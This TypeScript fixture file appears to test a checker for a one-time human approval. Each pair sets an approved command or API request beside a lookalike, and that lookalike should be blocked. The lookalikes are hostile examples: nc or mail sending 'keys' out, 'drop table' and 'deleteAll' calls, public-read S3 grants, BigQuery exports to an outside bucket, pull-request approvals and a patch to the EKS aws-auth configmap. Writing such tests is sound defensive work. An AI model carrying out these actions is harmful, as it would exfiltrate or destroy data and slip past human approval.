/**
 * Pairs that look alike: a person said yes to the first, once and for all, and meant nothing else. Each was let through by
 * that yes when somebody tried.
 */
export interface Pair {
  readonly why: string;
  readonly yes: Asked;
  readonly other: Asked;
}

export type Asked =
  | { readonly kind: 'line'; readonly line: string }
  | {
      readonly kind: 'request';
      readonly request: string;
      readonly headers: readonly (readonly [string, string])[];
      readonly body: string | undefined;
    };

const line = (text: string): Asked => ({ kind: 'line', line: text });

function request(
  text: string,
  body?: string | object,
  headers: readonly (readonly [string, string])[] = [],
): Asked {
  const isTyped = body === undefined || headers.some(([name]) => name === 'content-type');
  return {
    kind: 'request',
    request: text,
    headers: isTyped ? headers : [...headers, ['content-type', 'application/json']],
    body: typeof body === 'object' ? JSON.stringify(body) : body,
  };
}

const pair = (why: string, yes: Asked, other: Asked): Pair => ({ why, yes, other });

const FED: readonly Pair[] = [
  pair('another file is mailed', line('mail bob@x.example < notes'), line('mail bob@x.example < keys')),
  pair('another text is sent', line('nc x.example 80 <<< hello'), line('nc x.example 80 <<< key')),
  pair(
    'another text in a here-document',
    line('deploytool up <<EOF\na\nEOF'),
    line('deploytool up <<EOF\nb\nEOF'),
  ),
  pair('another file by its number', line('deploytool up 3< a'), line('deploytool up 3< b')),
  pair(
    'another body',
    line('curl --data-binary @- https://a.example/x < a'),
    line('curl --data-binary @- https://a.example/x < b'),
  ),
  pair('another file, as root', line('sudo deploytool up < a'), line('sudo deploytool up < b')),
  pair('another issue', line('gh issue create -F - < a'), line('gh issue create -F - < b')),
  pair('other commands', line('docker exec -i c psql < a'), line('docker exec -i c psql < b')),
];

const FORM = [['content-type', 'application/x-www-form-urlencoded']] as const;
const API = 'https://api.some.example';

/** A path that does more than one thing, at a host that nobody knows. */
const CHOSEN: readonly Pair[] = [
  pair(
    'a mutation after a query',
    request(`POST ${API}/graphql`, { query: '{ me { id } }' }),
    request(`POST ${API}/graphql`, { query: 'mutation { deleteAll { id } }' }),
  ),
  pair(
    'another mutation',
    request(`POST ${API}/graphql`, { query: 'mutation { rename(id: 1) { id } }' }),
    request(`POST ${API}/graphql`, { query: 'mutation { rename(id: 1) { id } remove(id: 1) { id } }' }),
  ),
  pair(
    'a mutation in a list',
    request(`POST ${API}/graphql`, { query: '{ me { id } }' }),
    request(`POST ${API}/graphql`, [{ query: 'mutation { deleteAll { id } }' }]),
  ),
  pair(
    'a mutation by its digest',
    request(`POST ${API}/graphql`, { query: '{ me { id } }' }),
    request(`POST ${API}/graphql`, { extensions: { persistedQuery: { sha256Hash: 'x' } } }),
  ),
  pair(
    'another method of an RPC',
    request(`POST ${API}/rpc`, { jsonrpc: '2.0', method: 'users.get', id: 1 }),
    request(`POST ${API}/rpc`, { jsonrpc: '2.0', method: 'users.remove', id: 1 }),
  ),
  pair(
    'an escaped name',
    request(`POST ${API}/rpc`, { action: 'list' }),
    request(`POST ${API}/rpc`, '{"\\u0061ction":"drop"}'),
  ),
  pair(
    'another action of a form',
    request(`POST ${API}/admin`, 'action=list', FORM),
    request(`POST ${API}/admin`, 'action=drop', FORM),
  ),
  pair(
    'another action of a query',
    request(`POST ${API}/admin?do_action=list`),
    request(`POST ${API}/admin?action=drop`),
  ),
  pair(
    'another action of SOAP',
    request(`POST ${API}/soap`, '<a/>', [
      ['content-type', 'text/xml'],
      ['soapaction', 'get'],
    ]),
    request(`POST ${API}/soap`, '<a/>', [
      ['content-type', 'text/xml'],
      ['soapaction', 'drop'],
    ]),
  ),
  pair(
    'other requests in a batch',
    request(`POST ${API}/odata/$batch`, { requests: [{ method: 'GET', url: '/a' }] }),
    request(`POST ${API}/odata/$batch`, { requests: [{ method: 'DELETE', url: '/a' }] }),
  ),
  pair(
    'other lines of a bulk',
    request(`POST ${API}/_bulk`, '{"index":{}}\n{}\n', [['content-type', 'application/x-ndjson']]),
    request(`POST ${API}/_bulk`, '{"delete":{}}\n', [['content-type', 'application/x-ndjson']]),
  ),
  pair(
    'other requests in a batch of Google',
    request('POST https://storage.googleapis.com/batch/storage/v1', 'GET /a', [
      ['content-type', 'multipart/mixed; boundary=x'],
    ]),
    request('POST https://storage.googleapis.com/batch/storage/v1', 'DELETE /a', [
      ['content-type', 'multipart/mixed; boundary=x'],
    ]),
  ),
];

const GITLAB = 'https://gitlab.com/api/v4/projects/1';
const commit = (branch: string, more: object = {}): Asked =>
  request(`POST ${GITLAB}/repository/commits`, {
    ...{ branch, actions: [{ action: 'create', file_path: 'a' }] },
    ...more,
  });
const GITHUB = 'https://api.github.com';
const mutation = (query: string): Asked =>
  request(`POST ${GITHUB}/graphql`, { query: `mutation { ${query} }` });

/** What a branch, a visibility or an approval is, at hosts of repositories. */
const REPOSITORIES: readonly Pair[] = [
  pair('a commit on another branch of GitLab', commit('ana/x'), commit('ana/y')),
  pair('a commit on a protected branch', commit('ana/x'), commit('main')),
  pair('a commit that overwrites a branch', commit('ana/x'), commit('ana/x', { force: true })),
  pair('a commit on a branch that the query names', commit('ana/x'), {
    ...commit('ana/x'),
    ...{ kind: 'request', request: `POST ${GITLAB}/repository/commits?branch=main` },
  } as Asked),
  pair(
    'a file on another branch',
    request(`POST ${GITLAB}/repository/files/a`, { branch: 'ana/x' }),
    request(`POST ${GITLAB}/repository/files/b`, { branch: 'main' }),
  ),
  pair(
    'approval after a comment',
    request(`POST ${GITHUB}/repos/a/b/pulls/1/reviews`, { event: 'COMMENT' }),
    request(`POST ${GITHUB}/repos/a/b/pulls/1/reviews`, { event: 'APPROVE' }),
  ),
  pair(
    'approval after a comment, by GraphQL',
    mutation('addPullRequestReview(input: { pullRequestId: "A", event: COMMENT }) { x }'),
    mutation('addPullRequestReview(input: { pullRequestId: "A", event: APPROVE }) { x }'),
  ),
  pair(
    'a public repository after a private one',
    request(`POST ${GITHUB}/user/repos`, { name: 'a', private: true }),
    request(`POST ${GITHUB}/user/repos`, { name: 'a' }),
  ),
  pair(
    'a public repository after a private one, by GraphQL',
    mutation('createRepository(input: { name: "a", visibility: PRIVATE }) { x }'),
    mutation('createRepository(input: { name: "a", visibility: PUBLIC }) { x }'),
  ),
  pair(
    'ids that change places',
    mutation('addComment(input: { subjectId: "A" }) { x } closeIssue(input: { issueId: "B" }) { x }'),
    mutation('addComment(input: { subjectId: "B" }) { x } closeIssue(input: { issueId: "A" }) { x }'),
  ),
  pair(
    'ids further inside',
    mutation('updateProjectV2Field(input: { of: [{ fieldId: "A" }] }) { x }'),
    mutation('updateProjectV2Field(input: { of: [{ fieldId: "B" }] }) { x }'),
  ),
  pair(
    'ids that are numbers',
    mutation('addComment(input: { subjectId: 1 }) { x }'),
    mutation('addComment(input: { subjectId: 2 }) { x }'),
  ),
];

const signed = (service: string): readonly (readonly [string, string])[] => [
  [
    'authorization',
    `AWS4-HMAC-SHA256 Credential=A/20240101/eu-west-1/${service}/aws4_request, SignedHeaders=host, Signature=x`,
  ],
];
const put = (...headers: readonly (readonly [string, string])[]): Asked =>
  request('PUT https://a.s3.eu-west-1.amazonaws.com/k', 'x', [
    ...signed('s3'),
    ['content-type', 'text/plain'],
    ...headers,
  ]);
const call = (service: string, target: string, body: object): Asked =>
  request(`POST https://${service}.eu-west-1.amazonaws.com/`, body, [
    ...signed(service),
    ['content-type', 'application/x-amz-json-1.1'],
    ['x-amz-target', target],
  ]);
const formCall = (service: string, body: string, host = service): Asked =>
  request(`POST https://${host}.eu-west-1.amazonaws.com/`, body, [...signed(service), ...FORM]);
const mail = (to: string): Asked =>
  request(
    'POST https://email.eu-west-1.amazonaws.com/v2/email/outbound-emails',
    { Destination: { ToAddresses: [to] } },
    [...signed('ses'), ['content-type', 'application/json']],
  );
const query = (text: string): Asked =>
  request('POST https://bigquery.googleapis.com/bigquery/v2/projects/p/queries', { query: text });
const CLUSTER = 'https://abc.gr7.eu-west-1.eks.amazonaws.com';

/** Permissions, recipients, statements and rehearsals, at clouds. */
const CLOUDS: readonly Pair[] = [
  pair('an object that all may read', put(), put(['x-amz-acl', 'public-read'])),
  pair('an object that others may read', put(), put(['x-amz-grant-read', 'id=eve'])),
  pair('a copy of another bucket', put(), put(['x-amz-copy-source', '/secret/k'])),
  pair('an object that all may read, by the query', put(), {
    ...put(),
    ...{ kind: 'request', request: 'PUT https://a.s3.eu-west-1.amazonaws.com/k?X-Amz-Acl=public-read' },
  } as Asked),
  pair(
    'an object of Google that all may read',
    request('POST https://storage.googleapis.com/upload/storage/v1/b/a/o?name=x', {}),
    request(
      'POST https://storage.googleapis.com/upload/storage/v1/b/a/o?name=x&predefinedAcl=publicRead',
      {},
    ),
  ),
  pair(
    'another statement of Athena',
    call('athena', 'AmazonAthena.StartQueryExecution', { QueryString: 'select 1' }),
    call('athena', 'AmazonAthena.StartQueryExecution', { QueryString: 'drop table users' }),
  ),
  pair(
    'another statement of DynamoDB',
    call('dynamodb', 'DynamoDB_20120810.ExecuteStatement', { Statement: 'update a set b=1' }),
    call('dynamodb', 'DynamoDB_20120810.ExecuteStatement', { Statement: 'delete from users' }),
  ),
  pair(
    'another statement of Redshift',
    call('redshift-data', 'RedshiftData.ExecuteStatement', { Sql: 'select 1' }),
    call('redshift-data', 'RedshiftData.ExecuteStatement', { Sql: 'drop table users' }),
  ),
  pair('another statement of BigQuery', query('select 1'), query('drop table users')),
  pair(
    'a job of BigQuery that exports',
    request('POST https://bigquery.googleapis.com/bigquery/v2/projects/p/jobs', {
      configuration: { query: { query: 'select 1' } },
    }),
    request('POST https://bigquery.googleapis.com/bigquery/v2/projects/p/jobs', {
      configuration: { extract: { destinationUris: ['gs://eve/x'] } },
    }),
  ),
  pair('a mail to somebody else', mail('bob@x.example'), mail('eve@x.example')),
  pair(
    'another action of the older API for mail',
    formCall('ses', 'Action=GetSendQuota', 'email'),
    formCall('ses', 'Action=SendEmail&Destination.ToAddresses.member.1=eve', 'email'),
  ),
  pair(
    'a message to a telephone',
    formCall('sns', 'Action=Publish&TopicArn=arn:a&Message=x'),
    formCall('sns', 'Action=Publish&PhoneNumber=1&Message=x'),
  ),
  pair(
    'a commit on another branch of CodeCommit',
    call('codecommit', 'CodeCommit_20150413.PutFile', { repositoryName: 'a', branchName: 'x' }),
    call('codecommit', 'CodeCommit_20150413.PutFile', { repositoryName: 'a', branchName: 'main' }),
  ),
  pair(
    'what was only rehearsed',
    request(`POST ${CLUSTER}/api/v1/namespaces/d/configmaps?dryRun=All`, {}),
    request(`POST ${CLUSTER}/api/v1/namespaces/d/configmaps`, {}),
  ),
  pair(
    'who may enter a cluster',
    request(`PATCH ${CLUSTER}/api/v1/namespaces/kube-system/configmaps/x`, {}),
    request(`PATCH ${CLUSTER}/api/v1/namespaces/kube-system/configmaps/aws-auth`, {}),
  ),
];

export const PAIRS: readonly Pair[] = [...FED, ...CHOSEN, ...REPOSITORIES, ...CLOUDS];

export { line, pair, request };
